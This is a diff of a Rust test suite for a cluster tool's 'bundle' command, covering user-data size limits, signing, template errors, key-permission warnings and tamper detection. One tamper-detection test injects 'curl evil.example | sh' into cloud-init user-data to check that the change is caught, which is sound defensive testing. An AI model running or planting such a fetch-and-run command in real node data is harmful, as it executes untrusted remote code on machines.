@@ -10,8 +10,15 @@ use clusterctl::bundle::archive;
 use clusterctl::bundle::model::Bundle;
 use serde::Deserialize;
 
-use crate::sealing::ssh_key;
+use crate::encryption::ssh_key;
+use clusterctl::app::package::{PackageError, PackageOptions, Warning};
+use clusterctl::bundle::format::Format;
+use clusterctl::cluster::spec::Cluster;
+use clusterctl::pki::ssh::SshKey;
+use clusterctl::store::credentials::CredentialProblem;
+
 use crate::support::outside::needs;
+use crate::support::packages::{package_with, warnings};
 use crate::support::{CLUSTER, Lab, good_tool, tool};
 
 /// The bundle that `bundle HOST` packs as an archive.
@@ -88,7 +95,7 @@ fn a_folders_modes_do_not_depend_on_the_umask_and_a_second_run_replaces_it_whole
 fn packed_user_data(lab: &Lab, host: &str) -> PathBuf {
     let ran = lab.good(&["bundle", host, "--format", "cloud-init"]);
     assert_eq!(ran.out, format!("DIR/bundles/{host}.cloud-init.yaml.gz\n"));
-    assert!(ran.err.contains("warning: the keys are in it in the clear."), "{ran}");
+    assert_eq!(ran.err.matches("warning: ").count(), 1, "keys without encryption: {ran}");
     lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))
 }
 
@@ -146,15 +153,22 @@ fn a_nodes_user_data_fits_into_what_ec2_takes_and_every_host_that_does_not_fit_i
     lab.good(&["issue-master", "--all"]);
     lab.good(&["issue-node", "--all"]);
     ssh_key(&lab, "signer", "ecdsa", "");
-    let ran = lab.good(&["bundle", "--all", "--format", "cloud-init", "--sign-with", "signer"]);
+    lab.good(&["bundle", "--all", "--format", "cloud-init", "--sign-with", "signer"]);
+    let report = package_with(&lab, &[], |_, options| {
+        options.format = Format::CloudInit;
+        options.signing_key = Some(SshKey::from_pem(lab.read("signer").as_bytes()).expect("a key"));
+        Ok(())
+    });
+    let report = report.expect("bundles");
+    let large = report.user_data_above(16 << 10);
     let size = |host: &str| fs::metadata(lab.path(&format!("bundles/{host}.cloud-init.yaml.gz"))).expect("facts").len();
     for node in [long, "worker-a1.fra1.example.net", "on", "worker-b1"] {
         assert!(size(node) <= 16 << 10, "{node}: {}", size(node));
-        assert!(!ran.err.contains(&format!("{node} (")), "{ran}");
+        assert!(large.iter().all(|(host, _)| host.as_str() != node), "{large:?}");
     }
     for master in ["master-1", "master-2"] {
-        let told = format!("{master} ({} bytes)", size(master));
-        assert_eq!(ran.err.contains(&told), size(master) > 16 << 10, "{told}: {ran}");
+        let found = large.iter().find(|(host, _)| host.as_str() == master).map(|(_, size)| *size);
+        assert_eq!(found, Some(size(master)).filter(|size| *size > 16 << 10), "{master}");
     }
 }
 
@@ -177,7 +191,7 @@ fn signed_user_data_installs_only_what_somebody_allowed_has_signed_and_an_igniti
     }
     let refused = lab.run(&["bundle", "on", "--format", "ignition", "--sign-with", "signer"]);
     assert_eq!((refused.status, refused.out.as_str()), (2, ""), "{refused}");
-    assert!(refused.err.starts_with("error: --format ignition cannot be signed"), "{refused}");
+    insta::assert_snapshot!("ignition_cannot_be_signed", refused.err);
     assert!(!lab.path("bundles").exists(), "nothing is packed");
 
     lab.good(&["bundle", "on", "--format", "cloud-init", "--sign-with", "signer"]);
@@ -453,7 +467,7 @@ fn show_and_verify_read_every_form() {
 }
 
 #[test]
-fn what_somebody_changed_in_a_parcel_is_found() {
+fn changes_in_a_bundle_of_any_format_are_found() {
     let lab = Lab::issued();
     for (form, _) in FORMS {
         lab.good(&["bundle", "on", "--format", form]);
@@ -477,14 +491,14 @@ fn what_somebody_changed_in_a_parcel_is_found() {
     change("user-data.yaml", "systemctl enable kubelet && systemctl restart kubelet", "curl evil.example | sh");
     good_tool("gzip", &["-nf", &path]);
     fs::rename(lab.path("user-data.yaml.gz"), lab.path("bundles/on.cloud-init.yaml.gz")).expect("replaced");
-    assert!(judged("clusterctl bundle on --format cloud-init").contains("or somebody changed it since"));
+    assert!(judged("clusterctl bundle on --format cloud-init").contains("or was changed since"));
     lab.good(&["bundle", "on", "--format", "cloud-init"]);
 
     change("bundles/on.ign", "\"mode\": 384", "\"mode\": 420");
     assert!(judged("clusterctl bundle on --format ignition").contains("has mode 0644, the manifest says 0600"));
     lab.good(&["bundle", "on", "--format", "ignition"]);
     change("bundles/on.ign", "\"directories\": [", "\"links\": [],\n    \"directories\": [");
-    assert!(judged("clusterctl bundle on --format ignition").contains("or somebody changed it since"));
+    assert!(judged("clusterctl bundle on --format ignition").contains("or was changed since"));
     lab.good(&["bundle", "on", "--format", "ignition"]);
     lab.good(&["verify", "--offline"]);
 
@@ -495,21 +509,14 @@ fn what_somebody_changed_in_a_parcel_is_found() {
 // ── bad input ──
 
 #[test]
-fn a_template_that_is_nobodys_is_refused_with_those_that_there_are() {
+fn a_template_that_overrides_nothing_is_refused_with_the_list_of_templates() {
     let lab = Lab::issued();
     fs::create_dir_all(lab.path("templates/node/etc")).expect("a folder");
     lab.write("templates/node/etc/motd", "hello\n");
     let before = lab.snapshot();
     let ran = lab.run(&["bundle", "--all", "--templates", "templates"]);
     assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
-    assert!(
-        ran.err.starts_with(
-            "error: the templates cannot be used\ncaused by: node/etc/motd overrides nothing; there are templates at \
-             install.sh "
-        ) && ran.err.contains(" node/var/lib/kubelet/config.yaml")
-            && ran.err.ends_with("\nhint: clusterctl bundle --eject-templates DIR writes those that work\n"),
-        "{ran}"
-    );
+    insta::assert_snapshot!("a_template_that_overrides_nothing", ran.err);
     assert_eq!(lab.snapshot(), before, "nothing is packed");
 }
 
@@ -531,81 +538,69 @@ fn a_template_that_fails_is_named_with_its_line_and_the_value() {
         ran.err
     };
     let unfilled = failing("a: 1\nserver: {{ cluster.endpiont }}\n");
-    assert!(
-        unfilled.starts_with("error: the bundle of on cannot be rendered\n")
-            && unfilled.contains(
-                "template node/etc/kubernetes/kubelet.conf, line 2: undefined value: server: {{ cluster.endpiont }}\n"
-            )
-            && unfilled.contains("\nhint: look at the template that is named"),
-        "{unfilled}"
-    );
+    insta::assert_snapshot!("a_template_with_an_undefined_value", unfilled);
     let broken = failing("a: 1\nb: 2\nserver: {{ cluster.endpoint }\n");
-    assert!(broken.contains("template node/etc/kubernetes/kubelet.conf, line 3: syntax error"), "{broken}");
+    insta::assert_snapshot!("a_template_with_a_syntax_error", broken);
     fs::remove_dir_all(lab.path("templates")).expect("removed");
     assert!(snapshot() == before, "nothing else changed");
 }
 
 #[test]
-fn a_form_that_there_is_not_and_one_that_cannot_be_sealed_are_usage_errors() {
+fn an_unknown_format_and_one_that_cannot_be_encrypted_are_usage_errors() {
     needs!("age-keygen");
     let lab = Lab::issued();
     let unknown = lab.run(&["bundle", "on", "--format", "zip"]);
     assert_eq!(unknown.status, 2, "{unknown}");
-    assert!(unknown.err.contains("[possible values: tar.gz, dir, cloud-init, ignition]"), "{unknown}");
     let pair = good_tool("age-keygen", &[]);
     let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
-    let sealed = lab.run(&["bundle", "on", "--format", "ignition", "--seal-to", recipient]);
+    let sealed = lab.run(&["bundle", "on", "--format", "ignition", "--encrypt-to", recipient]);
     assert_eq!(sealed.status, 2, "{sealed}");
-    assert!(sealed.err.starts_with("error: --format ignition cannot be sealed\nhint: "), "{sealed}");
+    insta::assert_snapshot!("ignition_cannot_be_encrypted", sealed.err);
     assert!(!lab.path("bundles").exists(), "nothing is packed");
 }
 
 #[test]
-fn what_stands_where_a_folder_has_to_go_stays() {
+fn a_file_in_place_of_a_folder_is_not_replaced() {
     let lab = Lab::issued();
     fs::create_dir(lab.path("bundles")).expect("a folder");
     lab.write("bundles/on", "somebody's");
     let ran = lab.run(&["bundle", "on", "--format", "dir"]);
     assert_eq!(ran.status, 3, "{ran}");
-    assert!(ran.err.contains("DIR/bundles/on is in the way") && ran.err.contains("\nhint: move "), "{ran}");
     assert_eq!(lab.read("bundles/on"), "somebody's");
 }
 
 // ── keys that others can read ──
 
 #[test]
-fn a_key_that_others_can_read_is_packed_with_a_word_of_warning() {
+fn a_key_that_others_can_read_is_packed_with_a_warning() {
     let lab = Lab::issued();
     let keys = ["kubelet-client.key", "kubelet-server.key"].map(|key| lab.path("pki/nodes/on").join(key));
     let set = |path: &Path, mode| fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("set");
     set(&keys[0], 0o640);
-    let warned = lab.good(&["bundle", "on"]);
-    let told = "warning: DIR/pki/nodes/on/kubelet-client.key has mode 0640, others can read it: whoever did";
-    assert!(warned.err.contains(told), "{warned}");
+    let exposed = CredentialProblem::Mode(keys[0].clone(), 0o640);
+    assert_eq!(warnings(&lab, &["on"]), [Warning::ExposedKeys { first: exposed, count: 1 }]);
     set(&keys[1], 0o644);
-    let warned = lab.good(&["bundle", "--all"]);
-    assert!(warned.err.contains("others can read it (and so for 1 more): whoever did"), "{warned}");
+    let found = warnings(&lab, &[]);
+    assert!(matches!(found.as_slice(), [Warning::ExposedKeys { count: 2, .. }]), "{found:?}");
     // What it says helps.
     let pki = lab.path("pki").display().to_string();
     good_tool("find", &[&pki, "-name", "*.key", "-exec", "chmod", "600", "{}", "+"]);
-    let quiet = lab.good(&["bundle", "--all"]);
-    assert!(!quiet.err.contains("warning: DIR/pki"), "{quiet}");
+    assert_eq!(warnings(&lab, &[]), []);
 
     set(&lab.path("pki/sa.key"), 0o644);
-    let warned = lab.good(&["bundle", "--all"]);
-    let told = "warning: DIR/pki/sa.key has mode 0644, others can read it: whoever did can make a token";
-    assert!(warned.err.contains(told), "{warned}");
-    assert!(!lab.good(&["bundle", "on"]).err.contains("sa.key"), "a node's bundle has nothing of it");
+    let exposed = CredentialProblem::Mode(lab.path("pki/sa.key"), 0o644);
+    assert_eq!(warnings(&lab, &[]), [Warning::ExposedServiceAccountKey(exposed)]);
+    assert_eq!(warnings(&lab, &["on"]), [], "a node's bundle does not have it");
 
-    set(&lab.path("pki/verifier/verifier.key"), 0o604);
-    let warned = lab.good(&["bundle", "--verifier"]);
-    assert!(warned.err.contains("verifier.key has mode 0604, others can read it: "), "{warned}");
+    let key = lab.path("pki/verifier/verifier.key");
+    set(&key, 0o604);
+    insta::assert_snapshot!("exposed_keys_of_the_verifier", lab.good(&["bundle", "--verifier"]).err);
 }
 
 // ── what others laid there ──
 
 #[test]
-fn a_file_that_no_bundle_brought_is_not_lost_with_the_folder_that_it_lies_in() {
+fn a_file_that_is_of_no_bundle_is_not_removed_with_its_folder() {
     needs!("age-keygen");
     let lab = Lab::issued();
     lab.good(&["bundle", "on", "--format", "dir"]);
@@ -613,29 +608,30 @@ fn a_file_that_no_bundle_brought_is_not_lost_with_the_folder_that_it_lies_in() {
     lab.write("bundles/on/notes.txt", "ask Ann");
     let pair = good_tool("age-keygen", &[]);
     let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
-    for args in [&["bundle", "on", "--format", "dir"][..], &["bundle", "--all", "--seal-to", recipient]] {
+    let lost = |_: &Cluster, options: &mut PackageOptions<'_>| {
+        options.format = Format::Dir;
+        Ok(())
+    };
+    assert_eq!(package_with(&lab, &["on"], lost), Err(PackageError::WouldBeLost(lab.path("bundles/on/notes.txt"))));
+    for args in [&["bundle", "on", "--format", "dir"][..], &["bundle", "--all", "--encrypt-to", recipient]] {
         let refused = lab.run(args);
         assert_eq!(refused.status, 3, "{refused}");
-        assert!(
-            refused.err.contains("DIR/bundles/on/notes.txt would be lost: no bundle brought it there"),
-            "{refused}"
-        );
         assert_eq!(lab.read("bundles/on/notes.txt"), "ask Ann");
     }
     lab.good(&["bundle", "on"]);
     fs::rename(lab.path("bundles/on/notes.txt"), lab.path("notes.txt")).expect("moved");
-    lab.good(&["bundle", "--all", "--seal-to", recipient]);
+    lab.good(&["bundle", "--all", "--encrypt-to", recipient]);
     assert!(!lab.path("bundles/on").exists());
 }
 
 #[test]
-fn a_folder_that_lost_its_manifest_is_named_as_a_whole() {
+fn a_folder_without_its_manifest_is_refused() {
     let lab = Lab::issued();
     lab.good(&["bundle", "on", "--format", "dir"]);
     fs::remove_file(lab.path("bundles/on/manifest.json")).expect("removed");
     let refused = lab.run(&["bundle", "on", "--format", "dir"]);
     assert_eq!(refused.status, 3, "{refused}");
-    assert!(refused.err.contains("the folder DIR/bundles/on has no manifest"), "{refused}");
+    insta::assert_snapshot!("a_folder_without_its_manifest", refused.err);
     // As the hint has it; and an empty folder holds nothing that could be lost.
     fs::rename(lab.path("bundles/on"), lab.path("aside")).expect("moved");
     fs::create_dir(lab.path("bundles/on")).expect("a folder");
@@ -643,11 +639,10 @@ fn a_folder_that_lost_its_manifest_is_named_as_a_whole() {
 }
 
 #[test]
-fn under_a_root_that_has_ended_nothing_is_packed_and_nothing_to_be_issued() {
+fn nothing_is_packed_under_an_expired_ca() {
     let mut lab = Lab::issued();
     lab.now += time::Duration::days(3651);
     let ran = lab.run(&["bundle", "--all"]);
     assert_eq!(ran.status, 3, "{ran}");
-    assert!(ran.err.contains("error: the root ended on 2036-11-20T12:00:00Z, so nothing was packed"), "{ran}");
-    assert!(!ran.err.contains("issue-"), "{ran}");
+    insta::assert_snapshot!("an_expired_ca", ran.err);
 }
